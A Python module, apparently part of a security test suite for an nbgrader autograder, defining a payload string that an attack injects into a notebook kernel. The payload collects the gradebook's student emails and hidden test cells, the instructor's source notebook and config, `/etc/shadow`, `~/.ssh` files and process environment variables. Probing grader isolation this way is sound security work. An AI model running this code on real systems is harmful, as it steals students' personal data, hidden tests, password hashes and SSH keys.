"""The code the leaking attacks put in the notebook to collect what they steal.

``LOOT`` defines ``_loot()`` in the kernel: {what: text} for the course's gradebook,
source notebook and config (by the relative path from the kernel's folder and through
``/proc/<parent>/cwd``), the hidden tests as the kernel itself ran them (IPython's input
history), /etc/shadow, ~/.ssh, and the environment variables of the kernel and of its
parent. Each read is capped and failures are recorded, never raised.
"""
LOOT = '''
import glob as _glob
import os as _os
import sqlite3 as _sqlite3


def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode("utf-8", "replace")
    except Exception as error:
        return f"<{type(error).__name__}>"


def _gradebook(path):
    try:
        db = _sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=5)
        students = db.execute("SELECT id, email FROM student").fetchall()
        hidden = db.execute("SELECT name, source FROM source_cell").fetchall()
        db.close()
        return {"students": students, "cells": hidden}
    except Exception as error:
        return f"<{type(error).__name__}>"


def _loot():
    parent_cwd = f"/proc/{_os.getppid()}/cwd"
    loot = {
        "gradebook": _gradebook("../../../gradebook.db"),
        "gradebook via parent": _gradebook(parent_cwd + "/gradebook.db"),
        "source notebook": _read("../../../source/cnn_step_by_step/cnn_step_by_step.ipynb"),
        "source notebook via parent": _read(parent_cwd + "/source/cnn_step_by_step/cnn_step_by_step.ipynb"),
        "config": _read("../../../nbgrader_config.py"),
        "history": [cell for cell in get_ipython().user_ns.get("In", []) if "HIDDEN" in cell or "_CnnGradingKit" in cell],
        "shadow": _read("/etc/shadow"),
        "ssh": {path: _read(path) for path in _glob.glob(_os.path.expanduser("~/.ssh/*"))},
        "environment": dict(_os.environ),
        "parent environment": _read(f"/proc/{_os.getppid()}/environ"),
    }
    return loot
'''
